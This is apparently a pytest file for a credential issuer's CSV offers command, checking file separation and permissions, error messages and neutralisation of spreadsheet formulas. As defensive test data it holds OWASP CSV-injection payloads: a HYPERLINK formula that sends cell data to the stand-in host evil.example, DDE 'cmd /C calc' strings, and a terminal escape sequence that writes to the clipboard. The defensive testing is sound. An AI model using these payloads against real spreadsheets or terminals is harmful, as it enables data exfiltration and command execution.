"""``civicid issuer offers``: the sample CSV works; what is handed over is two files (links,
transaction codes) no spreadsheet runs as formulas; a row missing claims names them once."""

from __future__ import annotations

import csv
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cli.harness import free_port, serving
from cli.main import app
from issuer.app import create_app
from issuer.batch import cell
from tests.issuer.conftest import ROOT, Env, refused, sample_claims
from tests.issuer.test_bad_input import offer

runner = CliRunner()
SAMPLE = ROOT / "examples" / "offers" / "national-id.csv"
HEADER = ["record", "given_name", "family_name", "birthdate", "age_equal_or_over.18"]
HEADER += ["age_equal_or_over.65"]
# OWASP CSV injection: each starts a formula in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def served(env: Env) -> Iterator[str]:
    with serving(create_app(issuer=env.issuer, background=False), free_port()) as url:
        yield url


def offers(env: Env, served: str, *args: str) -> tuple[int, str, str]:
    base = ["issuer", "offers", "--data-dir", str(env.data_dir), "--url", served]
    result = runner.invoke(app, [*base, "--api-key", env.keys["alice"], *args])
    return result.exit_code, result.stdout, result.stderr


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_sample_csv_is_accepted(env: Env, served: str, tmp_path: Path) -> None:
    links, codes = tmp_path / "links.csv", tmp_path / "codes.csv"
    code, out, err = offers(
        env, served, "--csv", str(SAMPLE), "--out", str(links), "--codes", str(codes)
    )
    assert code == 0, err
    assert "3 offers made, 0 rows failed" in out
    assert [r["record"] for r in read_csv(links)] == ["REG-0001", "REG-0002", "REG-0003"]
    assert len(read_csv(codes)) == 3


def test_links_and_codes_go_to_two_private_files(env: Env, served: str, tmp_path: Path) -> None:
    links, codes = tmp_path / "links.csv", tmp_path / "codes.csv"
    code, _, err = offers(
        env, served, "--csv", str(SAMPLE), "--out", str(links), "--codes", str(codes)
    )
    assert code == 0, err
    made, handed = read_csv(links), read_csv(codes)
    assert list(made[0]) == ["record", "offer", "link"]
    assert list(handed[0]) == ["record", "offer", "txCode"]
    text = links.read_text()
    assert not any(h["txCode"] in text for h in handed)  # no code beside its link
    assert not any(m["link"] in codes.read_text() for m in made)
    assert [h["offer"] for h in handed] == [m["offer"] for m in made]
    for path in (links, codes):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_links_to_stdout_codes_to_their_file(env: Env, served: str, tmp_path: Path) -> None:
    codes = tmp_path / "codes.csv"
    code, out, err = offers(env, served, "--csv", str(SAMPLE), "--codes", str(codes))
    assert code == 0, err
    handed = read_csv(codes)
    assert len(handed) == 3
    assert not any(h["txCode"] in out for h in handed)


def test_codes_file_required_with_tx_codes(env: Env, served: str, tmp_path: Path) -> None:
    """Refused before any offer is made: nothing to hand over twice."""
    links = tmp_path / "links.csv"

    def run() -> None:
        code, _, err = offers(env, served, "--csv", str(SAMPLE), "--out", str(links))
        assert code != 0
        assert err.strip().splitlines()[-1].endswith("[issuer_codes_file_missing]")
        raise_code(err)

    refused(env, run, "issuer_codes_file_missing")
    assert not links.exists()
    # Without transaction codes there are none to keep apart.
    code, _, err = offers(env, served, "--csv", str(SAMPLE), "--out", str(links), "--no-tx-code")
    assert code == 0, err
    assert len(read_csv(links)) == 3


def test_codes_beside_links_refused(env: Env, served: str, tmp_path: Path) -> None:
    same = tmp_path / "offers.csv"

    def run() -> None:
        code, _, err = offers(
            env, served, "--csv", str(SAMPLE), "--out", str(same), "--codes", str(same)
        )
        assert code != 0
        raise_code(err)

    refused(env, run, "issuer_codes_beside_links")
    assert not same.exists()


def raise_code(err: str) -> None:
    """Turn the CLI's one error line back into its code, for ``refused``."""
    from civicid.errors import CATALOGUE

    line = err.strip().splitlines()[-1]
    assert line.startswith("error: ") and "Traceback" not in err
    raise CATALOGUE[line.rsplit("[", 1)[1].rstrip("]")]()


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(env: Env, served: str, tmp_path: Path, formula: str) -> None:
    record = "=R-1" if formula[0] in "\t\r" else formula[:128]  # records are printable ASCII
    row = [record, "Ada", "Lovelace", "1990-12-10", "true", "false"]
    source = write_csv(tmp_path / "in.csv", [HEADER, row])
    links, codes = tmp_path / "links.csv", tmp_path / "codes.csv"
    code, _, err = offers(
        env, served, "--csv", str(source), "--out", str(links), "--codes", str(codes)
    )
    assert code == 0, err
    for path in (links, codes):
        for row_out in read_csv(path):
            for value in row_out.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert row_out["record"] == "'" + record  # kept, as text


@pytest.mark.parametrize("formula", FORMULAS)
def test_cell_neutralises_every_formula_start(formula: str) -> None:
    assert cell(formula) == "'" + formula
    assert cell("REG-1") == "REG-1"
    assert cell("") == ""


def test_a_row_missing_claims_names_them_once(env: Env, served: str, tmp_path: Path) -> None:
    rows = [HEADER, ["R-1", "", "", "", "true", "false"], ["R-2", "Ada", "", "", "", ""]]
    source = write_csv(tmp_path / "in.csv", rows)
    code, _, err = offers(
        env, served, "--csv", str(source), "--no-tx-code", "--out", str(tmp_path / "l.csv")
    )
    assert code == 1
    lines = [line for line in err.splitlines() if line.startswith("line ")]
    assert lines[0] == (
        "line 2 (R-1): claims do not match the type's schema: missing given_name, "
        "family_name, birthdate [issuer_claims_invalid]"
    )
    assert lines[1] == (
        "line 3 (R-2): claims do not match the type's schema: missing family_name, "
        "birthdate, age_equal_or_over [issuer_claims_invalid]"
    )
    assert "fails required" not in err


def test_nested_missing_claims_are_named_with_their_path(env: Env) -> None:
    claims = sample_claims()
    del claims["age_equal_or_over"]["65"]
    del claims["address"]["locality"]
    error = refused(env, lambda: offer(env, claims=claims), "issuer_claims_invalid")
    assert "missing address/locality, age_equal_or_over/65" in error.message


def test_a_record_with_control_characters_is_shown_inert(
    env: Env, served: str, tmp_path: Path
) -> None:
    row = ["R-\x1b]52;c;ZXZpbA==\x07", "Ada", "Lovelace", "1990-12-10", "true", "false"]
    source = write_csv(tmp_path / "in.csv", [HEADER, row])
    code, _, err = offers(
        env, served, "--csv", str(source), "--no-tx-code", "--out", str(tmp_path / "l.csv")
    )
    assert code == 1
    assert "\x1b" not in err and "\x07" not in err
    assert "R-\\x1b]52;c;ZXZpbA==\\x07" in err


def test_ids_never_start_with_a_dash() -> None:
    """An id starting with ``-`` would be an option to ``issuer revoke``, a formula to a
    sheet: such a draw is drawn again."""
    from issuer.entropy import Entropy

    draws = iter([b"\xf8" * 12, b"\xf8" * 12, b"\x00" * 12])

    class Fixed(Entropy):
        def __call__(self, size: int) -> bytes:
            return next(draws)

    fixed = Fixed()
    assert fixed.token(12).startswith("-")  # what a plain token could be
    assert fixed.ident(12) == "A" * 16


def test_an_unwritable_codes_file_fails_before_any_offer(
    env: Env, served: str, tmp_path: Path
) -> None:
    links, codes = tmp_path / "links.csv", tmp_path / "no-such-dir" / "codes.csv"

    def run() -> None:
        code, _, err = offers(
            env, served, "--csv", str(SAMPLE), "--out", str(links), "--codes", str(codes)
        )
        assert code != 0 and "cannot write" in err
        raise_code(err)

    refused(env, run, "issuer_csv_invalid")
